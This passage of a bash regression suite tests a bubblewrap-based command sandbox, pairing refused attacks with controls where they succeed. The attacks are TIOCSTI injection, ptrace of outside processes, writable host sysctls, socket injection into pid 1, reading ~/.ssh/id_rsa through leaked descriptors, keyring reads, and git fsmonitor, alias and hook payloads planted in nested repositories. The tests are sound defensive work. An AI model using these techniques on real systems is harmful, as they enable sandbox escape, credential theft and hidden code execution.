    if [[ ! -x /usr/bin/cargo || ! -x /usr/bin/rustc ]]; then
        skip "cargo builds and runs a small crate in the sandbox" \
            "Debian's cargo is not installed (tools/install-deps.sh --tests installs it)"
    else
        cargo_case
    fi

    # TIOCSTI needs a terminal on fd 0: script gives the command a pty, and echoes
    # an injected character in front of the next line ("xtiocsti: ...").
    if ! command -v script >/dev/null; then
        skip "TIOCSTI into the terminal is refused with EPERM" "script (util-linux) is not installed"
        skip "control: TIOCSTI works outside the sandbox" "script (util-linux) is not installed"
        return
    fi
    local cmd
    fresh_case
    printf -v cmd '%q ' "$sbx" run --root "$proj" "${managed[@]}" "${confined[@]}" \
        -- "$attack" tiocsti
    capture timeout 20 script -qec "$cmd" /dev/null
    want_status 1
    want_out "tiocsti: refused: EPERM"
    want_no_out "xtiocsti"
    tap_finish "TIOCSTI into the terminal is refused with EPERM"

    fresh_case
    printf -v cmd '%q ' "$attack" tiocsti
    capture timeout 20 script -qec "$cmd" /dev/null
    local legacy
    legacy=$(cat /proc/sys/dev/tty/legacy_tiocsti 2>/dev/null || echo 1)
    if [[ $rc == 1 && $legacy == 0 ]]; then
        skip "control: TIOCSTI works outside the sandbox" "dev.tty.legacy_tiocsti = 0"
    else
        want_succeeded
        want_out "xtiocsti: succeeded"
        tap_finish "control: TIOCSTI works outside the sandbox (the injected x is echoed)"
    fi
}

# --- processes -------------------------------------------------------------------------

# outside_process: starts `sleep 300` as the case's user, outside any sandbox; sets
# $outside. Each case has its own, so that an escape in one leaves the next intact.
outside_process() {
    start_bg sleep 300
    outside=$bg_pid
    # Until setpriv and env have exec'd, the pid is root's and not yet sleep.
    wait_until 5 runs_sleep "$outside" || fail_because "the process outside did not start"
}
runs_sleep() { [[ $(tr '\0' ' ' <"/proc/$1/cmdline" 2>/dev/null) == "sleep 300 " ]]; }

# Over 80 lines: one attack after another, each with its control, a few lines
# that end in tap_finish, in the order of their TAP numbers.
process_attacks() {
    local outside
    fresh_case
    outside_process
    sbx_run "${confined[@]}" -- "$attack" see-pid "$outside"
    want_refused ESRCH
    stop_bg "$outside"
    tap_finish "seeing a process outside is refused with ESRCH"

    fresh_case
    outside_process
    capture "$attack" see-pid "$outside"
    want_succeeded
    stop_bg "$outside"
    tap_finish "control: the process is visible outside the sandbox"

    fresh_case
    outside_process
    sbx_run "${confined[@]}" -- "$attack" kill "$outside"
    want_refused ESRCH
    if ended "$outside"; then fail_because "the process outside died"; fi
    stop_bg "$outside"
    tap_finish "signalling a process outside is refused with ESRCH"

    fresh_case
    outside_process
    local status=0
    {
        capture "$attack" kill "$outside"
        # Delivered SIGTERM ends sleep at once; anything else is killed here.
        if [[ $rc == 0 ]]; then wait "$outside" || status=$?; fi
    } 2>/dev/null
    want_succeeded
    [[ $status == 143 ]] || fail_because "the process outside ended with status $status, not 143 (SIGTERM)"
    stop_bg "$outside"
    tap_finish "control: the same kill ends the process outside the sandbox"

    fresh_case
    outside_process
    sbx_run "${confined[@]}" -- "$attack" ptrace "$outside"
    want_refused ESRCH
    stop_bg "$outside"
    tap_finish "ptrace of a process outside is refused with ESRCH"

    fresh_case
    outside_process
    capture "$attack" ptrace "$outside"
    stop_bg "$outside"
    local scope
    scope=$(cat /proc/sys/kernel/yama/ptrace_scope 2>/dev/null || echo 0)
    if [[ $rc == 1 && $scope != 0 ]]; then
        skip "control: ptrace of the process works outside the sandbox" "kernel.yama.ptrace_scope = $scope"
    else
        want_succeeded
        tap_finish "control: ptrace of the process works outside the sandbox"
    fi

    # /proc in the sandbox shows the command's own processes only.
    fresh_case
    outside_process
    sbx_run "${confined[@]}" -- sh -c 'ls /proc'
    stop_bg "$outside"
    want_status 0
    local pids
    pids=$(grep -cE '^[0-9]+$' <<<"$out" || true)
    ((pids > 0 && pids <= 10)) || fail_because "/proc lists $pids processes, not 1 to 10"
    ! grep -qx -- "$outside" <<<"$out" || fail_because "/proc lists the process outside ($outside)"
    tap_finish "/proc in the sandbox lists only the command's own processes ($pids)"

    fresh_case
    outside_process
    capture sh -c 'ls /proc'
    stop_bg "$outside"
    grep -qx -- "$outside" <<<"$out" || fail_because "/proc does not list $outside"
    tap_finish "control: /proc outside the sandbox lists the process outside"

    # A process in a new session, double-forked: it must die with the command.
    local marker
    fresh_case
    marker=$marker_base-$n
    sbx_run "${confined[@]}" -- "$attack" spawn-orphan "$marker"
    want_succeeded
    wait_until 3 no_process "$marker" || fail_because "still running: $(pgrep -af "$marker" | tr '\n' ' ')"
    tap_finish "a double-forked background process does not outlive the command"

    fresh_case
    marker=$marker_base-$n
    capture "$attack" spawn-orphan "$marker"
    want_succeeded
    wait_until 3 has_process "$marker" || fail_because "no process named $marker runs"
    local pid
    for pid in $(pgrep -f "$marker" || true); do kill -KILL "$pid" 2>/dev/null || true; done
    tap_finish "control: the same process outlives sbx-attack outside the sandbox"
}

# --- what the launcher leaves behind -----------------------------------------------------

leftover_attacks() {
    # A command that runs until told to stop: while it runs, placeholders and the
    # temporary directory exist; once it ends, neither remains.
    fresh_case
    setup_repo
    local before after run
    before=$(find "$proj" | sort)
    # shellcheck disable=SC2016  # $1 is the inner shell's
    start_bg timeout 20 "$sbx" run --root "$proj" "${managed[@]}" "${confined[@]}" \
        -- sh -c 'while [ ! -e "$1" ]; do sleep 0.05; done' sh "$case_dir/go"
    run=$bg_pid
    wait_until 10 test -e "$proj/.vscode" || fail_because "no placeholder $proj/.vscode appeared"
    wait_until 10 tmpdir_made || fail_because "no temporary directory $tmpd/sbx-* appeared"
    rc=0 out=$(<"$case_dir/bg.log") err=''
    tap_finish "control: while the command runs, the placeholder .vscode and \$TMPDIR/sbx-* exist"

    touch "$case_dir/go"
    rc=0
    wait "$run" || rc=$?
    out=$(<"$case_dir/bg.log")
    want_status 0
    after=$(find "$proj" | sort)
    [[ $after == "$before" ]] || fail_because "the project changed: $(diff <(echo "$before") <(echo "$after") | grep '^[<>]' | tr '\n' ' ')"
    tmpdir_made && fail_because "left behind: $(echo "$tmpd"/sbx-*)"
    tap_finish "after the command, the project is as before and no \$TMPDIR/sbx-* remains"

    launcher_kill KILL
    launcher_kill TERM
}

# launch_cleaned LAUNCHER MARKER: the launcher has ended, and the placeholder
# .vscode, the temporary directory and every process named MARKER are gone.
launch_cleaned() { ended "$1" && [[ ! -e $proj/.vscode ]] && no_tmpdir && no_process "$2"; }

# launcher_kill SIGNAL: the launcher killed with SIGNAL while the command runs
# leaves no placeholder, no temporary directory and no process within 3 seconds.
launcher_kill() {
    local signal=$1 marker launcher
    fresh_case
    setup_repo
    marker=$marker_base-$n
    # sbx run execs into sbx-linux, and setpriv and env exec too: the pid is the launcher's.
    # shellcheck disable=SC2016  # $0 is the inner shell's
    start_bg "$sbx" run --root "$proj" "${managed[@]}" "${confined[@]}" \
        -- bash -c 'exec -a "$0" sleep 300' "$marker"
    launcher=$bg_pid
    rc=0 out='' err=''
    if ! wait_until 10 test -e "$proj/.vscode" || ! wait_until 10 has_process "$marker 300"; then
        fail_because "the sandboxed command did not start"
    fi
    {
        kill "-$signal" "$launcher" || true
        # One deadline for everything; then each thing that is still there is named.
        wait_until 3 launch_cleaned "$launcher" "$marker" || true
        ended "$launcher" || fail_because "the launcher is still running 3 s after SIG$signal"
        [[ ! -e $proj/.vscode ]] || fail_because "the placeholder $proj/.vscode remains"
        no_tmpdir || fail_because "left behind: $(echo "$tmpd"/sbx-*)"
        no_process "$marker" || fail_because "still running: $(pgrep -af "$marker" | tr '\n' ' ')"
        stop_bg "$launcher"
    } 2>/dev/null
    out=$(<"$case_dir/bg.log")
    tap_finish "SIG$signal to the launcher: no placeholder, temporary directory or process remains"
}

# --- the kernel's interfaces ---------------------------------------------------------------

# Files of /proc and /sys that act on the whole machine. The command of a root
# caller is uid 0 of the host without capabilities, and procfs and sysfs check the
# owner, so without the covers these open for writing (nothing is ever written).
host_wide=(/proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/kernel/sysrq
    /proc/sys/kernel/core_uses_pid /proc/sys/vm/drop_caches /proc/sys/fs/suid_dumpable
    /proc/sysrq-trigger /proc/mtrr)

kernel_attacks() {
    fresh_case
    sbx_run "${confined[@]}" -- "$attack" writable /proc /sys
    want_refused
    tap_finish "nothing under /proc (but the sandbox's own processes) or /sys is writable"

    # Control: the same namespaces, no capabilities, no covers. As root the walk
    # finds /proc/sys; as a user, the sysctls of the sandbox's own namespaces.
    fresh_case
    capture timeout 20 "${bare_nocaps[@]}" -- "$attack" writable /proc
    want_succeeded
    tap_finish "control: the walk finds writable files in /proc in bare bubblewrap"

    fresh_case
    sbx_run "${confined[@]}" -- "$attack" open-write "${host_wide[@]}"
    want_refused
    tap_finish "the host-wide sysctls and /proc/sysrq-trigger do not open for writing"

    fresh_case
    capture timeout 20 "${bare_nocaps[@]}" -- "$attack" open-write "${host_wide[@]}"
    if [[ $(id -u "$who") != 0 && $rc == 1 ]]; then
        skip "control: the host-wide sysctls open for writing in bare bubblewrap" \
            "they belong to root, so as $who they are closed with or without the covers"
    else
        want_succeeded
        want_out /proc/sys/kernel/core_pattern
        tap_finish "control: as root, kernel.core_pattern and the rest open for writing in bare bubblewrap"
    fi

    # filesystem.disabled binds / writable; the kernel's files stay read-only.
    fresh_case
    sbx_run --settings "$conf/fs-disabled.json" -- "$attack" writable /sys /proc
    want_refused
    tap_finish "with filesystem.disabled, nothing under /sys or /proc is writable"

    fresh_case
    capture timeout 20 bwrap --unshare-user --unshare-all --die-with-parent --cap-drop ALL --bind / / \
        --dev /dev --proc /proc -- "$attack" writable /sys
    if [[ $(id -u "$who") != 0 && $rc == 1 ]]; then
        skip "control: /sys is writable in bare bubblewrap with / bound writable" \
            "its files belong to root, so as $who nothing there is writable either way"
    else
        want_succeeded
        tap_finish "control: as root, /sys is writable in bare bubblewrap with / bound writable"
    fi

    # A settings file that asks for them writable gets a warning, not the files.
    fresh_case
    echo '{"sandbox": {"enabled": true, "filesystem": {"allowWrite": ["/proc", "/proc/sys", "/sys/kernel"]}}}' \
        >"$case_dir/kernel-write.json"
    give "$case_dir"
    sbx_run --settings "$case_dir/kernel-write.json" -- "$attack" writable /proc /sys
    want_refused
    grep -qF '/proc/sys is not mounted writable' <<<"$err" || fail_because "no warning that /proc/sys stays read-only"
    tap_finish "allowWrite of /proc, /proc/sys and /sys/kernel is left out, with a warning"
}

# served PATH COMMAND...: COMMAND while a Unix socket server outside listens on
# PATH; what the server received is in $case_dir/bg.log afterwards.
served() {
    local path=$1 server
    shift
    start_bg "$attack" unix-serve "$path" "$case_dir/ready"
    server=$bg_pid
    if wait_until 10 test -e "$case_dir/ready"; then
        "$@"
        server_settles
    else
        fail_because "the server outside did not start: $(<"$case_dir/bg.log")"
    fi
    stop_bg "$server"
}

# --- the sandbox's pid 1 -------------------------------------------------------------------

# pid1_injection: a Unix socket injected into pid 1, refused; and its control.
pid1_injection() {
    fresh_case
    served "$proj/sock" sbx_run "${confined[@]}" -- "$attack" pid1-inject "$proj/sock"
    want_refused EPERM
    ! grep -q 'accepted' "$case_dir/bg.log" || fail_because "the server outside accepted a connection"
    tap_finish "making pid 1 connect a Unix socket through ptrace is refused with EPERM"

    # Control: the command under a filter of its own that refuses Unix sockets, as
    # sbx-linux used to load it, with pid 1 unfiltered.
    fresh_case
    served "$proj/sock" capture timeout 20 "${bare_nocaps[@]}" --bind "$proj" "$proj" -- \
        "$attack" pid1-inject "$proj/sock" --self-filter
    want_succeeded
    grep -q 'accepted a connection: hello' "$case_dir/bg.log" || fail_because "the server outside got no hello"
    tap_finish "control: with only the command filtered, the socket injected into pid 1 reaches the server"
}

pid1_attacks() {
    fresh_case
    sbx_run "${confined[@]}" -- "$attack" seccomp-status
    want_refused
    tap_finish "every process in the sandbox, pid 1 included, runs under the seccomp filter"

    fresh_case
    capture timeout 20 "${bare_bwrap[@]}" "$attack" seccomp-status
    want_succeeded
    want_out "pid 1 "
    tap_finish "control: in bare bubblewrap pid 1 runs without a filter"

    # The command borrows pid 1's unfiltered system calls: ptrace makes pid 1 open
    # a Unix socket, pidfd_getfd takes it, and it connects to a server outside.
    if [[ $(uname -m) == x86_64 ]]; then
        pid1_injection
    else
        skip "injecting a Unix socket into pid 1 is refused" "the attack is written for x86_64 only"
        skip "control: the injection works where pid 1 has no filter" "the attack is written for x86_64 only"
    fi

    # Tracing one's own children stays: strace and gdb work inside.
    fresh_case
    if command -v strace >/dev/null; then
        sbx_run "${confined[@]}" -- strace -f -o "$proj/trace" sh -c 'echo traced'
        want_status 0
        want_out traced
        grep -q 'execve(' "$proj/trace" 2>/dev/null || fail_because "strace wrote no execve line"
        tap_finish "strace -f of the command's own children works in the sandbox"
    else
        skip "strace -f of the command's own children works in the sandbox" "strace is not installed"
    fi
    fresh_case
    if command -v gdb >/dev/null; then
        sbx_run "${confined[@]}" -- gdb -nx -batch -ex run -ex 'info inferiors' --args /bin/true
        want_status 0
        want_out "exited normally"
        ! grep -q 'Error disabling address space randomization' <<<"$out$err" ||
            fail_because "gdb could not disable address space randomization"
        tap_finish "gdb runs a program to its end in the sandbox (ptrace and ADDR_NO_RANDOMIZE)"
    else
        skip "gdb runs a program to its end in the sandbox (ptrace and ADDR_NO_RANDOMIZE)" "gdb is not installed"
    fi
}

# --- the mounts the stage makes ---------------------------------------------------------------

# Where the kernel has the new mount API, bubblewrap starts the stage as uid 0
# of the sandbox's user namespace with four capabilities there (sbx/linux/bwrap.hpp,
# kStageMountFlags); the stage makes the mounts and the second user namespace
# --disable-userns would have made, drops every capability and loads the second
# part of the filter before the command runs (launchers/stage/mounts.cpp).
# bubblewrap as sbx starts it, without the command line's mounts: what the
# stage gets.
stage_bwrap=(bwrap --unshare-user --unshare-all --die-with-parent --new-session --uid 0 --gid 0 --cap-drop ALL
    --cap-add CAP_SYS_ADMIN --cap-add CAP_SETPCAP --cap-add CAP_SYS_RESOURCE --cap-add CAP_SETFCAP
    --ro-bind / / --dev /dev --proc /proc)
status_probe='grep -E "^(Cap(Inh|Prm|Eff|Bnd|Amb)|Seccomp_filters):" /proc/self/status
echo "mntns $(readlink /proc/self/ns/mnt)"
echo "uid_map $(cat /proc/self/uid_map)"'

stage_attacks() {
    local set self_ns
    fresh_case
    sbx_run "${confined[@]}" -- sh -c "$status_probe"
    want_status 0
    for set in CapInh CapPrm CapEff CapBnd CapAmb; do want_out "$set:	0000000000000000"; done
    # bubblewrap's part, the stage's after its mounts, and the connect broker's.
    want_out "Seccomp_filters:	3"
    read -r _ self_ns < <(grep '^mntns ' <<<"$out") || true
    [[ -n $self_ns && $self_ns != "$(readlink /proc/self/ns/mnt)" ]] || fail_because "the command is in the host's mount namespace"
    # The second user namespace, which --disable-userns would have made, is the
    # stage's: the caller's uid there is uid 0 of the first, as the stage started.
    grep -qE "^uid_map +$(in_case id -u) +0 +1\$" <<<"$out" ||
        fail_because "the command's uid_map is not the stage's second namespace's"
    tap_finish "the command holds no capability in any set, runs under the three filters, in the stage's second user namespace"

    fresh_case
    capture timeout 20 "${stage_bwrap[@]}" -- sh -c "$status_probe"
    want_status 0
    want_no_out "CapEff:	0000000000000000"
    want_no_out "CapBnd:	0000000000000000"
    tap_finish "control: what bubblewrap starts as sbx starts it holds the capabilities"

    # The capability would make a read-only mount writable again.
    fresh_case
    sbx_run "${confined[@]}" -- "$attack" remount-rw "$proj/HEAD"
    want_refused
    sbx_run "${confined[@]}" -- "$attack" write "$proj/HEAD" "written by an attack"
    want_refused
    want_no_file "$proj/HEAD"
    tap_finish "the placeholder's read-only mount stays read-only: mount_setattr is refused"

    fresh_case
    : >"$proj/HEAD"
    give "$proj/HEAD"
    capture timeout 20 "${stage_bwrap[@]}" --ro-bind "$proj/HEAD" "$proj/HEAD" -- "$attack" remount-rw "$proj/HEAD"
    want_succeeded
    tap_finish "control: with the stage's capability, mount_setattr makes a read-only bind writable"

    # pid 1 is bubblewrap's, made before the stage's mounts: its root must not be
    # a way around them (it is the same mount namespace, and out of reach).
    fresh_case
    sbx_run "${confined[@]}" -- "$attack" write "/proc/1/root$proj/HEAD" "written by an attack"
    want_refused
    want_no_file "$proj/HEAD"
    tap_finish "writing the HEAD placeholder through pid 1's root is refused"

    fresh_case
    capture timeout 20 bwrap --unshare-user --unshare-all --die-with-parent --ro-bind / / --dev /dev --proc /proc \
        --bind "$proj" "$proj" -- "$attack" write "/proc/1/root$proj/.bashrc" "written by an attack"
    want_succeeded
    [[ $(cat "$proj/.bashrc" 2>/dev/null || true) == "written by an attack" ]] || fail_because ".bashrc does not hold the text"
    tap_finish "control: in bare bubblewrap pid 1's root reaches the root's files"
}

# --- descriptors the caller leaves open ------------------------------------------------------

# holding SPEC... -- COMMAND...: COMMAND (through capture) with descriptors open
# as bash redirections (7<DIR, 9<FILE), the way an agent runtime leaves them.
holding() {
    local redirs=()
    while [[ $1 != -- ]]; do
        redirs+=("$1")
        shift
    done
    shift
    capture timeout 20 bash -c "exec ${redirs[*]}; exec \"\$@\"" bash "$@"
}

# holding_socket PATH COMMAND...: COMMAND (through capture) with descriptor 8
# connected to the Unix socket PATH.
holding_socket() {
    local path=$1
    shift
    capture timeout 20 python3 -c 'import os, socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
os.dup2(s.fileno(), 8)
os.execvp(sys.argv[2], sys.argv[2:])' "$path" "$@"
}

# sbx_cmd OPTION...: sets $run to the sbx run command line of the case, with OPTION.
sbx_cmd() { run=("$sbx" run --root "$proj" "${managed[@]}" "$@"); }

fd_attacks() {
    # A directory descriptor writes through the read-only view.
    fresh_case
    setup_outside
    sbx_cmd "${confined[@]}"
    holding "7<$case_dir/outside" -- "${run[@]}" -- "$attack" fd-write 7 planted.txt text
    want_refused EBADF
    want_no_file "$case_dir/outside/planted.txt"
    tap_finish "a directory descriptor the caller left open does not reach the command (EBADF)"

    fresh_case
    setup_outside
    sbx_cmd "${confined[@]}" --pass-fd 7
    holding "7<$case_dir/outside" -- "${run[@]}" -- "$attack" fd-write 7 planted.txt text
    want_succeeded
    want_file "$case_dir/outside/planted.txt"
    tap_finish "control: passed with --pass-fd 7, it writes outside the writable roots"

    # A file descriptor of a file the policy hides.
    fresh_case
    setup_secret
    sbx_cmd "${confined[@]}"
    holding "9<$home/.ssh/id_rsa" -- "${run[@]}" -- "$attack" fd-read 9
    want_refused EBADF
    want_no_out "$secret"
    tap_finish "a descriptor of ~/.ssh/id_rsa the caller left open does not reach the command"

    fresh_case
    setup_secret
    sbx_cmd "${confined[@]}" --pass-fd 9
    holding "9<$home/.ssh/id_rsa" -- "${run[@]}" -- "$attack" fd-read 9
    want_succeeded
    want_out "$secret"
    tap_finish "control: passed with --pass-fd 9, the hidden file is read through it"

    # A socket to a server outside skips the proxy and the filter.
    fresh_case
    sbx_cmd "${confined[@]}"
    served "$case_dir/sock" holding_socket "$case_dir/sock" "${run[@]}" -- "$attack" fd-send 8 hello
    want_refused EBADF
    ! grep -q 'accepted a connection: hello' "$case_dir/bg.log" || fail_because "the server outside got the hello"
    tap_finish "a socket to a server outside, left open by the caller, does not reach the command"

    fresh_case
    sbx_cmd "${confined[@]}" --pass-fd 8
    served "$case_dir/sock" holding_socket "$case_dir/sock" "${run[@]}" -- "$attack" fd-send 8 hello
    want_succeeded
    grep -q 'accepted a connection: hello' "$case_dir/bg.log" || fail_because "the server outside got no hello"
    tap_finish "control: passed with --pass-fd 8, the hello reaches the server outside"

    # Nothing but 0-2: neither the caller's descriptors nor the launcher's.
    fresh_case
    sbx_cmd "${confined[@]}"
    holding "7</dev/null" "9</dev/null" -- "${run[@]}" -- "$attack" fds
    want_refused
    tap_finish "the command has descriptors 0, 1 and 2 only"

    fresh_case
    sbx_cmd "${confined[@]}" --pass-fd 9
    holding "7</dev/null" "9</dev/null" -- "${run[@]}" -- "$attack" fds
    want_succeeded
    want_out ": 9"
    want_no_out " 7"
    tap_finish "control: with --pass-fd 9 the command has 9 as well, and still not 7"

    # A plan that names a descriptor the launcher does not have runs nothing.
    fresh_case
    holding "7</dev/null" -- "$sbx" plan --root "$proj" "${managed[@]}" "${confined[@]}" --pass-fd 7 \
        -- "$attack" write "$proj/launched"
    cp "$case_dir/out" "$case_dir/plan.json"
    [[ $rc == 0 ]] || fail_because "sbx plan failed with status $rc: $err"
    give "$case_dir"
    input=$case_dir/plan.json capture timeout 20 "$sbx_linux" --plan-fd 0
    want_status 125
    grep -qF 'command.passFds[0]' <<<"$err" || fail_because "stderr does not name command.passFds[0]"
    want_no_file "$proj/launched"
    tap_finish "a plan passing a descriptor that is not open is refused with 125, naming command.passFds[0]"
}

# --- keyrings, socket families and other kernel surfaces --------------------------------------

key_attacks() {
    local key=sbx-attack-$n value="a key of the caller's $RANDOM"
    fresh_case
    sbx_cmd "${confined[@]}"
    capture "$attack" with-key "$key" "$value" -- "${run[@]}" -- "$attack" key-read "$key"
    want_refused EPERM
    want_no_out "$value"
    tap_finish "reading a key of the caller's session keyring is refused with EPERM"

    fresh_case
    capture "$attack" with-key "$key" "$value" -- "${bare_nocaps[@]}" -- "$attack" key-read "$key"
    want_succeeded
    want_out "$value"
    tap_finish "control: in bare bubblewrap the caller's key is read"

    fresh_case
    sbx_cmd "${confined[@]}"
    capture "$attack" with-key "$key" "$value" -- "${run[@]}" -- "$attack" key-add "$key-2" planted
    want_refused EPERM
    tap_finish "adding a key to the caller's keyring is refused with EPERM"

    fresh_case
    capture "$attack" with-key "$key" "$value" -- "${bare_nocaps[@]}" -- "$attack" key-add "$key-2" planted
    want_succeeded
    tap_finish "control: in bare bubblewrap a key is added to the caller's keyring"
}

family_attacks() {
    # AF_VSOCK is not isolated by the network namespace: on a VM it reaches the host.
    fresh_case
    sbx_run "${confined[@]}" -- "$attack" socket vsock
    want_refused EAFNOSUPPORT
    tap_finish "socket(AF_VSOCK) is refused with EAFNOSUPPORT"

    fresh_case
    capture timeout 20 "${bare_nocaps[@]}" -- "$attack" socket vsock
    if [[ $rc == 1 ]] && grep -qF 'refused: EAFNOSUPPORT' <<<"$out"; then
        skip "control: socket(AF_VSOCK) works in bare bubblewrap" "this kernel has no AF_VSOCK"
    else
        want_succeeded
        tap_finish "control: socket(AF_VSOCK) works in bare bubblewrap"
    fi

    # Netlink: routing (getaddrinfo, ip) stays; the kernel's other Netlink services go.
    fresh_case
    sbx_run "${confined[@]}" -- "$attack" socket netlink raw 0
    want_succeeded
    tap_finish "a NETLINK_ROUTE socket still opens in the sandbox"

    fresh_case
    sbx_run "${confined[@]}" -- "$attack" socket netlink raw 15
    want_refused EPROTONOSUPPORT
    tap_finish "a NETLINK_KOBJECT_UEVENT socket is refused with EPROTONOSUPPORT"

    fresh_case
    capture timeout 20 "${bare_nocaps[@]}" -- "$attack" socket netlink raw 15
    want_succeeded
    tap_finish "control: a NETLINK_KOBJECT_UEVENT socket opens in bare bubblewrap"

    fresh_case
    sbx_run "${confined[@]}" -- "$attack" socket inet6 dgram
    want_succeeded
    tap_finish "an AF_INET6 socket still opens in the sandbox"
}

surface_attacks() {
    local what
    for what in perf-event userfaultfd; do
        fresh_case
        sbx_run "${confined[@]}" -- "$attack" "$what"
        want_refused EPERM
        tap_finish "$what is refused with EPERM"

        fresh_case
        capture "$attack" "$what"
        if [[ $rc == 1 ]]; then
            skip "control: $what works outside the sandbox" "refused here without a sandbox too: $out"
        else
            want_succeeded
            tap_finish "control: $what works outside the sandbox"
        fi
    done

    # READ_IMPLIES_EXEC makes every readable mapping executable.
    fresh_case
    sbx_run "${confined[@]}" -- "$attack" personality 0x0400000
    want_refused EPERM
    tap_finish "personality(READ_IMPLIES_EXEC) is refused with EPERM"

    fresh_case
    capture "$attack" personality 0x0400000
    want_succeeded
    tap_finish "control: personality(READ_IMPLIES_EXEC) works outside the sandbox"

    fresh_case
    sbx_run "${confined[@]}" -- "$attack" personality 0x0040008
    want_succeeded
    tap_finish "personality(PER_LINUX32 | ADDR_NO_RANDOMIZE), as setarch and gdb set it, works in the sandbox"
}

# --- a root that is the home directory -------------------------------------------------------

# With the home as the root every dotfile is writable, and .bash_aliases (which
# Debian's .bashrc sources) is no protected name: such a root is refused.
home_root_attacks() {
    fresh_case
    capture timeout 20 "$sbx" run --root "$home" "${managed[@]}" "${confined[@]}" \
        -- "$attack" write "$home/.bash_aliases" "planted alias"
    want_status 125
    grep -qF -- "--allow-home-root" <<<"$err" || fail_because "stderr does not name --allow-home-root"
    want_no_file "$home/.bash_aliases"
    tap_finish "a root that is the home directory is refused with 125, and nothing runs"

    fresh_case
    capture timeout 20 "$sbx" run --root "$home" --allow-home-root "${managed[@]}" \
        "${confined[@]}" -- "$attack" write "$home/.bash_aliases" "planted alias"
    want_succeeded
    [[ $(cat "$home/.bash_aliases" 2>/dev/null) == "planted alias" ]] || fail_because "$home/.bash_aliases was not planted"
    tap_finish "control: with --allow-home-root the command plants ~/.bash_aliases"
}

# --- repositories the command makes or changes -------------------------------------------

# Git's identity for commits, in the case's empty home: as arguments outside, as
# words of a command line in the scripts run inside.
git_id=(-c user.name=sbx-attack -c user.email=sbx-attack@example.invalid)
git_in="git ${git_id[*]}"

# inner_script NAME BODY: $case_dir/NAME.sh, a bash script run inside the sandbox in
# the project (set -e), readable by the case's user.
inner_script() {
    printf 'set -e\ncd %q\n%s\n' "$proj" "$2" >"$case_dir/$1.sh"
    give "$case_dir"
    script=$case_dir/$1.sh
}

# run_without_audit SCRIPT: SCRIPT through sbx-linux with the plan `sbx plan` makes,
# less its filesystem.gitAudit: the same sandbox without the audit after the run.
run_without_audit() {
    capture "$sbx" plan --root "$proj" "${managed[@]}" "${confined[@]}" -- bash "$1"
    [[ $rc == 0 ]] || fail_because "sbx plan failed with status $rc"
    python3 - "$case_dir/out" "$case_dir/plan-no-audit.json" <<'PY' || fail_because "the plan has no filesystem.gitAudit"
import json, sys
plan = json.load(open(sys.argv[1]))
assert plan["filesystem"].pop("gitAudit") == [plan["root"]]
plan["filesystem"].pop("gitRecord", None)  # what that audit would find
json.dump(plan, open(sys.argv[2], "w"))
PY
    give "$case_dir"
    input=$case_dir/plan-no-audit.json capture timeout 20 "$sbx_linux" --plan-fd 0 --violations
}

# run_unrecorded SCRIPT: SCRIPT through sbx-linux with the plan `sbx plan` makes as
# it is. Unlike `sbx run`, `sbx plan` walks no root for a first record of its
# repositories, so one that no gitlink names is unknown while the command runs,
# as a clone made since the last run is: only the audit after it stands.
run_unrecorded() {
    capture "$sbx" plan --root "$proj" "${managed[@]}" "${confined[@]}" -- bash "$1"
    [[ $rc == 0 ]] || fail_because "sbx plan failed with status $rc"
    cp "$case_dir/out" "$case_dir/plan.json"
    give "$case_dir"
    input=$case_dir/plan.json capture timeout 20 "$sbx_linux" --plan-fd 0 --violations
}

# setup_nested: a repository in the project with a committed nested repository `sub`
# gitlinked in its index, as `git add sub` leaves it.
setup_nested() {
    setup_repo
    in_case git init -q "$proj/sub"
    in_case git "${git_id[@]}" -C "$proj/sub" commit -q --allow-empty -m nested
    in_case git -C "$proj" add sub 2>/dev/null
}

# disabled_files: every *.sbx-disabled under the case directory, one a line.
disabled_files() { find "$case_dir" -name '*.sbx-disabled*' | sort; }

# Over 80 lines: one attack after another, each with its control, a few lines
# that end in tap_finish, in the order of their TAP numbers.
nested_repo_attacks() {
    local marker plant
    # The issue: a nested repository with core.fsmonitor, added as a gitlink, runs
    # its payload on a plain `git status` in the root outside. (The plants are
    # expanded by the script inside, which sets git_in and marker.)
    # shellcheck disable=SC2016
    plant='git init -q sub
$git_in -C sub commit -q --allow-empty -m s
printf "[core]\n\tfsmonitor = \"touch %s; false\"\n" "$marker" >>sub/.git/config
git add sub 2>/dev/null'
    fresh_case
    setup_repo
    marker=$case_dir/marker
    inner_script plant "git_in='$git_in'; marker=$marker; $plant"
    sbx_run "${confined[@]}" -- bash "$script"
    want_status 0
    want_err "neutralised git-config $proj/sub/.git/config (core.fsmonitor line "
    want_file "$proj/sub/.git/config.sbx-disabled"
    want_no_file "$proj/sub/.git/config"
    capture git -C "$proj" status --short
    want_no_file "$marker"
    tap_finish "a nested repository with core.fsmonitor gitlinked inside: neutralised, git status outside runs nothing"

    fresh_case
    setup_repo
    marker=$case_dir/marker
    inner_script plant "git_in='$git_in'; marker=$marker; $plant"
    run_without_audit "$script"
    want_status 0
    want_no_err "neutralised"
    capture git -C "$proj" status --short
    want_file "$marker"
    tap_finish "control: without gitAudit in the plan, git status outside runs the payload"

    # Planted in a nested repository no gitlink names: a user's later `git add -A`
    # would add it; git run in it now runs the alias and the hook.
    # shellcheck disable=SC2016
    plant='git init -q loose
$git_in -C loose commit -q --allow-empty -m first
git -C loose config core.hooksPath /nonexistent-hooks
git -C loose config alias.st "!touch $marker"
printf "#!/bin/sh\ntouch %s\n" "$marker" >loose/.git/hooks/post-checkout
chmod +x loose/.git/hooks/post-checkout'
    fresh_case
    setup_repo
    marker=$case_dir/marker
    inner_script plant "git_in='$git_in'; marker=$marker; $plant"
    sbx_run "${confined[@]}" -- bash "$script"
    want_status 0
    want_err "neutralised git-config $proj/loose/.git/config (core.hookspath line "
    want_err "neutralised git-hook $proj/loose/.git/hooks/post-checkout ("
    want_file "$proj/loose/.git/hooks/post-checkout.sbx-disabled"
    capture git -C "$proj/loose" st
    capture git -C "$proj/loose" checkout -q -b other
    want_no_file "$marker"
    [[ -z $(find "$proj/loose/.git/hooks" -name '*.sample.sbx-disabled*') ]] || fail_because "a sample hook was renamed"
    tap_finish "core.hooksPath, an alias running ! and hooks/post-checkout in a nested repository without a gitlink: neutralised"

    fresh_case
    setup_repo
    marker=$case_dir/marker
    inner_script plant "git_in='$git_in'; marker=$marker; $plant"
    run_without_audit "$script"
    want_status 0
    capture git -C "$proj/loose" st
    want_file "$marker"
    rm -f "$marker"
